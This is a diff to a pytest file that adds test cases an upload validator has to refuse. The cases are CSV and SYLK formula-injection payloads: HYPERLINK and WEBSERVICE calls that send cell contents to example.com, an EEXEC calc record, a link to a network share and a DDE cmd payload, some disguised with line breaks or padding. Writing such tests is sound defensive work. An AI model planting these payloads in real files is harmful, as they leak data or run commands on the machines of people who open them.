@@ -297,6 +297,51 @@ REFUSALS = [
         uploads.CSV_FORMULA.format(line=2),
         id="csv-name-in-a-workbook-on-a-share",
     ),
+    # Found by the third review.
+    pytest.param(
+        "grades.csv",
+        b'a,b,c\ntv,55" screen,-5\n'
+        + b"12,abc,-5\n" * 104_845
+        + b'x,"=1+\nHYPERLINK(""https://example.com/"")"\n',
+        uploads.CSV_FORMULA.format(line=104_848),
+        id="csv-formula-over-two-lines-after-a-stray-inch-mark",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'a,b,c\nx,"="a"&"b\n"&HYPERLINK("https://example.com/?"&A1)"\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-libreoffice-quote-marks-kept-as-text",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'a,b\nx,"=WEBSERVICE\n(""https://example.com/?""&A1)"\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-line-break-before-the-bracket",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'a,b\nx,""=HYPERLINK("https://example.com/?"&A1)\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-empty-quoted-value-before-the-formula",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'ID\nC;Y1;X1;EEXEC("calc")\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-sylk-without-a-semicolon",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'ID;P\nC;EWEBSERVICE("https://example.com")\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-sylk-formula-first",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"ID;P\nNE;F\\\\example\\share\\b.xls;S;ER1C1\n",
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-sylk-link-to-a-share",
+    ),
     pytest.param(
         "grades.csv",
         b'force,grade\n"Kent,' + b"x" * 140_000 + b"\nEssex,=cmd|' /C calc'!A0\n",
